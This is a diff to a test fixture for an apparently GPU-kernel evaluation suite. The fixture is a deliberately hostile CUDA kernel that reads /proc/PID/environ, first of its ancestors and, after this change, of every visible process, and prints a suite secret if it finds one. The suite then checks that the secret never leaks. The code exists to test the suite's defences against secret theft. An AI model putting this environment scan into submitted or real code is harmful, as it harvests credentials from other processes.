@@ -1,11 +1,13 @@
-// Hostile: reads the environment of its ancestors through /proc/PID/environ (a scrubbed
-// environment of its own does not hide the parent's) and prints PIKE_SUITE_SECRET if it
-// finds it, then computes the right answer. Only that variable is printed by value so a
+// Hostile: reads the environment of its ancestors, and then of every process it can see,
+// through /proc/PID/environ (a scrubbed environment of its own does not hide the parent's)
+// and prints PIKE_SUITE_SECRET if it finds it, then computes the right answer. Only that variable is printed by value so a
 // real key of the host never reaches the suite's output. The suite checks the secret
 // never appears in any reply. Expected `ok_honest_time`.
 #include "pike/Runtime/KernelABI.h"
 #include <cuda_runtime.h>
+#include <dirent.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
 __global__ void ew(const float *__restrict__ x, const float *__restrict__ y, float *__restrict__ out,
@@ -60,6 +62,12 @@ extern "C" int pike_entry(const PikeTensorRef *in, int32_t nin, PikeTensorRef *o
     scan(getpid());
     for (int pid = getppid(), depth = 0; pid > 1 && depth < 4; pid = parent_of(pid), ++depth)
       scan(pid);
+    if (DIR *d = opendir("/proc")) {
+      while (dirent *e = readdir(d))
+        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
+          scan(atoi(e->d_name));
+      closedir(d);
+    }
     fflush(stdout);
   }
   return launch_ew(in, out, stream);
